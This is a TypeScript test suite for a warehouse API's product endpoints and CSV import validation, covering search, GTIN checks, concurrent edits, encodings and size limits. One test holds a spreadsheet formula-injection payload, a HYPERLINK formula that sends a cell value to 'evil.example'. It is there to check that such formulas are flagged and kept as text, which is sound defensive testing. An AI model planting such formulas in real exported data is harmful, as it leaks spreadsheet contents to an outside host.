import {
  basePaths,
  type FileFault,
  importNamedMax,
  productFileBytesMax,
  productFileRowsMax,
  type RowFault,
} from '@wms/contract';
import { once } from 'node:events';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { type IncomingMessage, request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  createStaffToken,
  createTenant,
  type RunningApi,
  startApi,
  type Tenant,
} from '../../testing/running-api.ts';

const uploadFolder = mkdtempSync(join(tmpdir(), 'wms-uploads-'));
const header = 'sku,name,ourStock,inProduction';
const longTimeoutMs = 120_000;

let api: RunningApi;
let admin: string;
let acme: Tenant;

beforeAll(async () => {
  api = await startApi({ uploadFolder });
  admin = await createStaffToken(api, 'ADMIN');
  acme = await createTenant(api, 'acme');
});
afterAll(async () => {
  await api.close();
  rmSync(uploadFolder, { recursive: true });
});

const ops = (method: string, path: string, body?: unknown) =>
  api.call(method, basePaths.ops + path, { token: admin, ...(body === undefined ? {} : { body }) });

async function send(file: string | Uint8Array<ArrayBuffer>, preview: boolean) {
  const response = await fetch(`${api.origin}${basePaths.ops}/products/import?preview=${preview}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${admin}`, 'content-type': 'text/csv' },
    body: file,
  });
  return { status: response.status, json: await response.json() };
}
const names = async (sku: string) =>
  ((await ops('GET', `/products?sku=${encodeURIComponent(sku)}`)).json.products as { name: string }[]).map(
    ({ name }) => name,
  );

describe('products', () => {
  test('are listed by SKU with their total, searched in any alphabet, and followed by cursor', async () => {
    await send(
      [header, 'L-1,Hemd Größe M,1,0', 'L-2,HEMD GRÖSSE L,2,0', 'L-3,100%_Cotton,3,0', ''].join('\n'),
      false,
    );
    const page = (await ops('GET', '/products?limit=1')).json;
    expect([page.products.length, page.total]).toEqual([1, 3]);
    const next = (await ops('GET', `/products?limit=2&cursor=${encodeURIComponent(page.nextCursor)}`)).json;
    expect(next.products.map(({ sku }: { sku: string }) => sku)).toEqual(['L-2', 'L-3']);
    expect(next.nextCursor).toBeNull();
    const search = async (text: string) =>
      (await ops('GET', `/products?search=${encodeURIComponent(text)}`)).json.products.map(
        ({ sku }: { sku: string }) => sku,
      );
    expect(await search('hemd GR')).toEqual(['L-1', 'L-2']);
    expect(await search('größe')).toEqual(['L-1']);
    expect(await search('%_')).toEqual(['L-3']);
    expect(await search('l-2')).toEqual(['L-2']);
  });

  test('a GTIN is taken in any length, and finds the level of its article', async () => {
    const made = { sku: 'GTIN-TEE', name: 'Tee', ourStock: 0, inProduction: 0, gtin: '9520000400019' };
    expect((await ops('POST', '/products', made)).json.gtin).toBe('09520000400019');
    const change = { sku: 'GTIN-TEE', gtin: '9520000400026', expected: { gtin: made.gtin } };
    expect((await ops('PATCH', '/products', change)).json.gtin).toBe('09520000400026');
    const back = { sku: 'GTIN-TEE', gtin: made.gtin, expected: { gtin: '09520000400026' } };
    expect((await ops('PATCH', '/products', back)).json.gtin).toBe('09520000400019');
    expect((await ops('POST', '/products', { ...made, sku: 'GTIN-TWO' })).json.code).toBe('GTIN_TAKEN');
    const bad = await ops('POST', '/products', { ...made, sku: 'GTIN-BAD', gtin: '9520000400014' });
    expect([bad.status, bad.json.code]).toEqual([422, 'INVALID_REQUEST']);
    await api.store.commit('setLevel', {
      warehouseId: acme.warehouseId,
      sku: 'GTIN-TEE',
      refillThreshold: null,
      parLevel: null,
      quantity: 3,
    });
    const find = async (query: string) => api.call('GET', `/stock?${query}`, { token: acme.supervisor });
    for (const gtin of ['9520000400019', '09520000400019', '9520000300012,9520000400019']) {
      const { json } = await find(`gtin=${gtin}`);
      expect(json.levels).toMatchObject([{ sku: 'GTIN-TEE', gtin: '09520000400019', currentQuantity: 3 }]);
    }
    expect((await find('gtin=9520000300012')).json).toMatchObject({ levels: [], total: 0 });
    for (const query of ['gtin=9520000400014', 'gtin=9520000400019&sku=GTIN-TEE', 'gtin=']) {
      expect((await find(query)).status).toBe(422);
    }
  });

  test.each(['a/b', '..', '.', 'a?b#c', 'ä ö', '%2F', 'a,b'])('a SKU may be %j', async (sku) => {
    const made = await ops('POST', '/products', { sku, name: 'odd', ourStock: 0, inProduction: 0 });
    expect(made.status).toBe(201);
    const changed = await ops('PATCH', '/products', { sku, ourStock: 4, expected: { ourStock: 0 } });
    expect(changed.json).toMatchObject({ sku, ourStock: 4 });
  });

  test.each([
    ['nothing to change', { sku: 'L-1', expected: {} }],
    ['a change without what was seen', { sku: 'L-1', name: 'x', expected: {} }],
    ['what was seen of another field', { sku: 'L-1', name: 'x', expected: { ourStock: 1 } }],
    ['no expectation at all', { sku: 'L-1', name: 'x' }],
    ['a negative stock', { sku: 'L-1', ourStock: -1, expected: { ourStock: 1 } }],
    ['an unknown field', { sku: 'L-1', name: 'x', price: 1, expected: { name: 'y' } }],
  ])('%s is refused', async (_what, body) => {
    const answer = await ops('PATCH', '/products', body);
    expect([answer.status, answer.json.code]).toEqual([422, 'INVALID_REQUEST']);
  });

  test('a name that somebody else has changed is not overwritten', async () => {
    const body = { sku: 'L-2', name: 'Mine', expected: { name: 'HEMD GRÖSSE L' } };
    expect((await ops('PATCH', '/products', body)).status).toBe(200);
    const late = await ops('PATCH', '/products', { ...body, name: 'Theirs' });
    expect([late.status, late.json.code, late.json.current.name]).toEqual([409, 'CHANGED_MEANWHILE', 'Mine']);
    expect(await names('L-2')).toEqual(['Mine']);
  });
});

describe('an import', () => {
  test('shows in its preview what it would do, writes nothing, and then does just that', async () => {
    const file = `${header}\nI-1,One,1,0\nI-2,Two,2,0\n`;
    const preview = await send(file, true);
    expect(preview).toMatchObject({ status: 200, json: { preview: true, rows: 2, added: 2, changed: 0 } });
    expect(preview.json.changes[0]).toEqual({
      sku: 'I-1',
      before: null,
      after: { name: 'One', ourStock: 1, inProduction: 0, gtin: null },
    });
    expect(await names('I-1')).toEqual([]);
    const done = await send(file, false);
    expect(done.json).toEqual({ ...preview.json, preview: false });
    expect(await names('I-1')).toEqual(['One']);
    expect((await send(file, false)).json).toMatchObject({ added: 0, changed: 0, unchanged: 2 });
  });

  test('writes nothing unless it is told to', async () => {
    const answer = await api.call('POST', `${basePaths.ops}/products/import`, {
      token: admin,
      headers: { 'content-type': 'text/csv' },
      body: `${header}\nI-SHY,Shy,1,0\n`,
    });
    expect(answer.json).toMatchObject({ preview: true, added: 1 });
    expect(await names('I-SHY')).toEqual([]);
  });

  test.each([
    ['a wrong check digit', '9520000300017', 'NOT_A_GTIN', {}, 'is not a GTIN'],
    ['letters', 'ISBN', 'NOT_A_GTIN', {}, 'is not a GTIN'],
    ['one that stands twice', '9520000300012', 'GTIN_TWICE', { firstLine: 2 }, 'the same as on line 2'],
    ['a product’s own', '9520000400019', 'GTIN_TAKEN', { sku: 'GTIN-TEE' }, 'gtin belongs to GTIN-TEE'],
  ])('a GTIN column with %s names the line', async (_what, gtin, code, values, reason) => {
    const file = `${header},gtin\nGT-1,one,1,0,9520000300012\nGT-2,two,1,0,${gtin}\n`;
    const { json } = await send(file, true);
    expect(json.faults).toHaveLength(1);
    expect(json.faults[0]).toMatchObject({ line: 3, code, values });
    expect(json.faults[0].reason).toContain(reason);
  });

  const long = 'x'.repeat(201);
  const rows: [string, string, RowFault['code'], string][] = [
    ['a missing field', 'F,name,1', 'FIELD_COUNT', 'has not as many fields'],
    ['a field too many', 'F,name,1,2,3', 'FIELD_COUNT', 'has not as many fields'],
    ['no SKU', ',name,1,2', 'EMPTY_FIELD', 'sku is empty'],
    ['a SKU of 65 characters', `${'F'.repeat(65)},name,1,2`, 'TOO_LONG', 'sku is longer than 64 characters'],
    [
      'a control character in the SKU',
      'F\u0007,name,1,2',
      'CONTROL_CHARACTERS',
      'sku has control characters',
    ],
    ['no name', 'F,,1,2', 'EMPTY_FIELD', 'name is empty'],
    ['a name of 201 characters', `F,${long},1,2`, 'TOO_LONG', 'name is longer than 200 characters'],
    ['a new line in the name', 'F,"two\nlines",1,2', 'CONTROL_CHARACTERS', 'name has control characters'],
    ['no stock', 'F,name,,2', 'NOT_A_COUNT', 'ourStock is not a whole number'],
    ['a negative stock', 'F,name,-1,2', 'NOT_A_COUNT', 'ourStock is not a whole number'],
    ['a fraction', 'F,name,1.5,2', 'NOT_A_COUNT', 'ourStock is not a whole number'],
    [
      'a number with a thousands separator',
      'F,name,"1,000",2',
      'NOT_A_COUNT',
      'ourStock is not a whole number',
    ],
    [
      'a number that no level can hold',
      'F,name,2147483648,2',
      'NOT_A_COUNT',
      'ourStock is not a whole number from 0 to 2147483647',
    ],
    ['a text for a number', 'F,name,1,many', 'NOT_A_COUNT', 'inProduction is not a whole number'],
    ['a number with blanks', 'F,name,1, 2', 'NOT_A_COUNT', 'inProduction is not a whole number'],
    ['a formula for a number', 'F,name,=1+1,2', 'NOT_A_COUNT', 'ourStock is not a whole number'],
    ['a SKU of test warehouses', 'T888-X,name,1,2', 'KEPT_SKU', 'sku begins with T888-'],
  ];
  test.each(rows)(
    '%s is a fault of its line, and nothing of the file is written',
    async (_what, row, code, reason) => {
      const file = `${header}\nGOOD-ONE,good,1,2\n${row}\n`;
      const line = 2 + row.split('\n').length;
      const preview = await send(file, true);
      expect(preview.status).toBe(200);
      expect(preview.json).toMatchObject({ rows: 2, added: 1, faultCount: 1 });
      expect(preview.json.faults[0].line).toBe(line);
      expect(preview.json.faults[0].code).toBe(code);
      expect(preview.json.faults[0].reason).toContain(reason);
      const real = await send(file, false);
      expect(real).toMatchObject({
        status: 422,
        json: { code: 'FAULTY_ROWS', rows: 2, faultCount: 1, faults: preview.json.faults },
      });
      expect(await names('GOOD-ONE')).toEqual([]);
    },
  );

  test('a SKU that stands twice is a fault that names both lines', async () => {
    const { json } = await send(`${header}\nDUP,one,1,0\nOTHER,o,1,0\nDUP,two,2,0\n`, true);
    expect(json.faults).toEqual([
      { line: 4, code: 'SKU_TWICE', values: { firstLine: 2 }, reason: 'sku is the same as on line 2' },
    ]);
  });

  test('of many faults the first hundred are named and all are counted', async () => {
    const bad = Array.from({ length: 250 }, (_, index) => `B-${index},name,x,0`);
    const { json } = await send([header, ...bad].join('\n'), true);
    expect([json.faultCount, json.faults.length]).toEqual([250, importNamedMax]);
    expect(json.faults.at(-1).line).toBe(1 + importNamedMax);
  });

  test('what a spreadsheet would run is kept as text, and said', async () => {
    const name = '=HYPERLINK("http://evil.example/"&A1)';
    const file = `${header}\nX-1,"${name.replaceAll('"', '""')}",1,0\n-X-2,plain,1,0\nX-3,plain,1,0\n`;
    const { json } = await send(file, false);
    expect(json).toMatchObject({
      formulaCount: 2,
      formulas: [
        { line: 2, sku: 'X-1' },
        { line: 3, sku: '-X-2' },
      ],
    });
    expect(await names('X-1')).toEqual([name]);
  });

  const bytes = (text: string, encoding: BufferEncoding = 'utf8') => Buffer.from(text, encoding);
  const files: [string, Buffer<ArrayBuffer>, FileFault['code'], string][] = [
    ['Latin-1', bytes(`${header}\nE,Größe,1,0\n`, 'latin1'), 'NOT_UTF8', 'not UTF-8 text on line 2'],
    ['UTF-16', bytes(`\uFEFF${header}\nE,Name,1,0\n`, 'utf16le'), 'NOT_UTF8', 'not UTF-8 text on line 1'],
    [
      'an unknown column',
      bytes(`${header},price\nE,n,1,0,9\n`),
      'WRONG_COLUMNS',
      'must begin with the columns',
    ],
    ['a column twice', bytes(`${header},name\nE,n,1,0,m\n`), 'WRONG_COLUMNS', 'must begin with the columns'],
    ['another header', bytes('sku;price\nE;1\n'), 'WRONG_COLUMNS', 'must begin with the columns'],
    ['nothing', bytes(''), 'NO_HEADER', 'is empty'],
    ['an open quote', bytes(`${header}\nE,"Name,1,0\n`), 'NOT_CSV', 'cannot be read'],
  ];
  test.each(files)('%s is refused as a whole, in preview too', async (_what, file, fault, reason) => {
    for (const preview of [true, false]) {
      const answer = await send(file, preview);
      expect([answer.status, answer.json.code, answer.json.fault]).toEqual([422, 'BAD_FILE', fault]);
      expect(answer.json.reason).toContain(reason);
    }
  });

  test.each([
    ['UTF-8 with a byte order mark', `\uFEFF${header}\nOK-1,Größe,1,0\n`],
    ['semicolons', 'sku;name;ourStock;inProduction\nOK-1;Größe;1;0\n'],
    ['Windows’ line ends', `${header}\r\nOK-1,Größe,1,0\r\n`],
    ['columns in another order', 'ourStock,inProduction,name,sku\n1,0,Größe,OK-1\n'],
  ])('%s is read', async (_what, file) => {
    expect((await send(file, true)).json).toMatchObject({ rows: 1, faultCount: 0 });
  });

  test(
    'a million lines are refused with the bound, before anything is written',
    async () => {
      const lines = Array.from({ length: 1_000_000 }, (_, index) => `M${index},n,1,0`);
      const answer = await send([header, ...lines].join('\n'), false);
      expect([answer.status, answer.json.code]).toEqual([422, 'BAD_FILE']);
      expect(answer.json).toMatchObject({ fault: 'TOO_MANY_ROWS', values: { rowsMax: productFileRowsMax } });
      expect(await names('M0')).toEqual([]);
    },
    longTimeoutMs,
  );

  test('a file that is larger than the bound is refused by its length alone', async () => {
    const sending = request(`${api.origin}${basePaths.ops}/products/import`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${admin}`,
        'content-type': 'text/csv',
        'content-length': productFileBytesMax + 1,
      },
    });
    sending.write(header);
    const [response] = (await once(sending, 'response')) as [IncomingMessage];
    let text = '';
    for await (const chunk of response.setEncoding('utf8') as AsyncIterable<string>) text += chunk;
    sending.destroy();
    expect(response.statusCode).toBe(413);
    expect(JSON.parse(text)).toMatchObject({ code: 'FILE_TOO_LARGE', bytesMax: productFileBytesMax });
  });

  test(
    'reads are answered while twenty thousand rows are imported',
    async () => {
      const count = 20_000;
      const rowsOfFile = Array.from(
        { length: count },
        (_, index) => `BIG-${index},Garment ${index},${index},0`,
      );
      let importing = true;
      let answered = 0;
      const reading = (async () => {
        for (; importing; answered += 1) {
          expect((await api.call('GET', '/stock', { token: acme.supervisor })).status).toBe(200);
          await sleep(5);
        }
      })();
      const { json } = await send([header, ...rowsOfFile].join('\n'), false);
      importing = false;
      await reading;
      expect(json).toMatchObject({ rows: count, added: count, faultCount: 0 });
      expect(json.changes).toHaveLength(importNamedMax);
      expect(answered).toBeGreaterThan(10);
    },
    longTimeoutMs,
  );

  test('of all these files nothing is left on the disk', () => {
    expect(readdirSync(uploadFolder)).toEqual([]);
  });
});
